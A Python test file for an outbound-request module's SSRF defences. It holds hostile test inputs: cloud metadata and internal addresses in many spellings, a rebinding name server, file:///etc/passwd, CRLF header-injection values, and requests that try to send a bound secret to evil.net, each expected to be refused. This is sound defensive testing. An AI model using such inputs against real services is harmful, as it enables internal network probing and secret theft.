"""Calls to addresses that users name: what comes back, and where they never go."""

import asyncio
import socket
from collections.abc import Generator
from contextlib import contextmanager
from datetime import timedelta
from threading import Thread

import pytest
from aiohttp.abc import AbstractResolver, ResolveResult

from outbound import NoReply, Outgoing, Reply, reach, url_refusal
from settings import Outbound, read_outbound

HERE = read_outbound({"ROLLOUT_OUTBOUND": "127.0.0.0/8"})
NOWHERE = Outbound()
PLAIN = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


class Names(AbstractResolver):
    """Answers these addresses, one list after the other: a name server that changes its mind."""

    def __init__(self, *answers: list[str]) -> None:
        self.answers = list(answers)

    async def resolve(
        self, host: str, port: int = 0, family: socket.AddressFamily = socket.AF_UNSPEC
    ) -> list[ResolveResult]:
        assert family == socket.AF_UNSPEC, "addresses of both kinds are checked"
        return [
            ResolveResult(
                hostname=host,
                host=address,
                port=port,
                family=socket.AF_INET6 if ":" in address else socket.AF_INET,
                proto=0,
                flags=socket.AI_NUMERICHOST,
            )
            for address in self.answers.pop(0)
        ]

    async def close(self) -> None:
        pass


@contextmanager
def serving(*answers: str) -> Generator[tuple[str, list[str]]]:
    """A server that says these things, one to a connection, whatever it is asked: its address, and
    what it was asked. After "" it holds its peace.
    """
    asked: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            for answer in answers:
                connection, _ = server.accept()
                with connection:
                    asked.append(connection.recv(65536).decode())
                    if answer:
                        connection.sendall(answer.encode())
                    else:
                        connection.recv(65536)

        thread = Thread(target=serve, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}/gate", asked
        thread.join(10)


def said(outgoing: Outgoing, allowed: Outbound = HERE, *names: list[str]) -> Reply | NoReply:
    return asyncio.run(reach(outgoing, allowed, Names(*names) if names else None))


def test_an_answer_is_given_as_it_is() -> None:
    with serving(PLAIN.replace("\r\n\r\n", "\r\nX-Seen: 1\r\n\r\n")) as (url, asked):
        answer = said(Outgoing("POST", url, {"X-Key": "k"}, b'{"a": 1}'))
    assert isinstance(answer, Reply)
    assert (answer.status, answer.body, answer.headers["x-seen"]) == (200, b"ok", "1")
    assert asked[0].startswith("POST /gate HTTP/1.1\r\n")
    assert "X-Key: k\r\n" in asked[0]
    assert asked[0].endswith('{"a": 1}')
    assert "Authorization" not in asked[0]


def test_a_redirect_is_an_answer_and_is_not_followed() -> None:
    away = "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\nContent-Length: 0\r\n\r\n"
    with serving(away) as (url, asked):
        answer = said(Outgoing("GET", url))
    assert isinstance(answer, Reply)
    assert (answer.status, len(asked)) == (302, 1)


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ("HTTP/1.1 200 OK\r\nContent-Length: 70000\r\n\r\n" + "x" * 70000, "more than 64 KB"),
        ("HTTP/1.1 200 OK\r\n\r\n" + "x" * 900_000, "more than 64 KB"),
        ("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 1\r\n\r\nx", "compressed"),
        ("This is no HTTP at all\r\n\r\n", "no answer that can be read"),
        ("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nx", "no answer that can be read"),
        ("", "did not answer whole within 1 s"),
    ],
)
def test_what_is_no_answer_is_said_in_a_sentence(answer: str, why: str) -> None:
    with serving(answer) as (url, _):
        outcome = said(Outgoing("GET", f"{url}?key=hidden", timeout=timedelta(seconds=1)))
    assert isinstance(outcome, NoReply)
    assert why in outcome.reason
    assert outcome.reason.startswith("127.0.0.1 ")
    assert "hidden" not in outcome.reason, "an address may be a secret"
    assert not outcome.refused


def test_a_host_that_is_down_may_be_up_later() -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    outcome = said(Outgoing("GET", f"http://127.0.0.1:{port}/"))
    assert isinstance(outcome, NoReply)
    assert not outcome.refused
    why = "127.0.0.1 could not be reached (connection refused): see whether it is up"
    assert outcome.reason == why


INSIDE = [
    "127.0.0.1", "10.0.0.5", "172.16.0.1", "192.168.1.1", "169.254.169.254", "168.63.129.16",
    "100.64.0.1", "0.0.0.1", "::1", "::", "fe80::1", "fd00::1", "::ffff:127.0.0.1",
    "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::7f00:1",
    "::ffff:0:a9fe:a9fe", "fec0::1", "224.0.0.1",
    "255.255.255.255",
]  # fmt: skip


@pytest.mark.parametrize("address", INSIDE)
def test_an_address_inside_is_refused_written_or_looked_up(address: str) -> None:
    literal = f"[{address}]" if ":" in address else address
    assert url_refusal(f"https://{literal}/gate", NOWHERE)
    outcome = said(Outgoing("GET", "https://hooks.example/"), NOWHERE, [address])
    assert isinstance(outcome, NoReply)
    assert outcome.refused


@pytest.mark.parametrize(
    "address", ["2130706433", "0x7f000001", "127.1", "017700000001", "1.2.3.0x7f."]
)
def test_another_spelling_of_an_address_is_refused(address: str) -> None:
    assert url_refusal(f"https://{address}/", HERE)
    outcome = said(Outgoing("GET", f"https://{address}/"), HERE)
    assert isinstance(outcome, NoReply)
    assert outcome.refused


def test_a_name_with_one_good_and_one_bad_address_is_refused() -> None:
    outcome = said(Outgoing("GET", "https://hooks.example/"), NOWHERE, ["20.1.2.3", "10.0.0.1"])
    assert isinstance(outcome, NoReply)
    assert outcome.refused
    assert "ROLLOUT_OUTBOUND" in outcome.reason


def test_a_name_is_looked_up_once_and_what_was_checked_is_called() -> None:
    """A second answer of the name server would lead elsewhere."""
    with serving(PLAIN) as (url, asked):
        port = url.rpartition(":")[2]
        allowed = read_outbound({"ROLLOUT_OUTBOUND": "127.0.0.0/8,hooks.example"})
        outcome = said(
            Outgoing("GET", f"http://hooks.example:{port}"),
            allowed,
            ["127.0.0.1"],
            ["169.254.169.254"],
        )
    assert isinstance(outcome, Reply)
    assert f"Host: hooks.example:{port.partition('/')[0]}" in asked[0]


@pytest.mark.parametrize("address", ["169.254.169.254", "168.63.129.16", "fe80::1", "127.0.0.1"])
def test_a_host_that_is_allowed_by_name_still_does_not_reach_the_platform(address: str) -> None:
    allowed = read_outbound({"ROLLOUT_OUTBOUND": "hooks.example"})
    outcome = said(Outgoing("GET", "https://hooks.example/"), allowed, [address])
    assert isinstance(outcome, NoReply)
    assert outcome.refused


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("ftp://hooks.example/", "begins with https://"),
        ("file:///etc/passwd", "begins with https://"),
        ("hooks.example", "begins with https://"),
        ("https://", "is no"),
        ("https://[::1", "is no URL"),
        ("http://hooks.example/", "without encryption"),
        ("https://ann:secret@hooks.example/", "name a secret in a header"),
    ],
)
def test_an_address_that_is_no_good_is_refused_before_it_is_called(url: str, why: str) -> None:
    reason = url_refusal(url, NOWHERE)
    assert reason
    assert why in reason
    assert "secret@" not in reason
    outcome = said(Outgoing("GET", url), NOWHERE)
    assert isinstance(outcome, NoReply)
    assert outcome.refused


@pytest.mark.parametrize(
    "secret",
    ["whsec_c2VjcmV0", "Bearer hidden", "hooks.slack.com/services/T/B/hidden", "https://[hidden"],
)
def test_what_is_no_address_is_not_said_again(secret: str) -> None:
    """It may be a secret that somebody named where an address belongs."""
    reason = url_refusal(secret, NOWHERE)
    assert reason
    assert secret not in reason
    assert "hidden" not in reason


@pytest.mark.parametrize(
    "headers", [{"Host": "other"}, {"content-length": "5"}, {"X": "a\r\nY: b"}, {"X\n": "a"}]
)
def test_a_header_that_says_how_the_call_is_made_is_refused(headers: dict[str, str]) -> None:
    outcome = said(Outgoing("GET", "http://127.0.0.1:9/", headers))
    assert isinstance(outcome, NoReply)
    assert outcome.refused


@pytest.mark.parametrize(
    "outgoing",
    [
        Outgoing("GET", "https://evil.net/hook/s3cret"),
        Outgoing("GET", "https://evil.net", {"Authorization": "Bearer s3cret"}),
        Outgoing("POST", "https://evil.net", body=b'{"token": "s3cret"}'),
        Outgoing("POST", "https://evil.net", {"webhook-signature": "v1,x"}, b"{}", key="s3cret"),
    ],
)
def test_a_secret_that_is_bound_goes_nowhere_else(outgoing: Outgoing) -> None:
    """Wherever it stands, and whoever put it there: before the host is looked up."""
    setting = {"ROLLOUT_SECRET_HOOK": "s3cret", "ROLLOUT_BOUND_SECRETS": '{"HOOK": ["good.net"]}'}
    reply = said(outgoing, read_outbound(setting))
    assert isinstance(reply, NoReply)
    assert reply.refused
    assert reply.reason.startswith("the secret HOOK may go to good.net, and not to evil.net: ")
    assert "s3cret" not in reply.reason
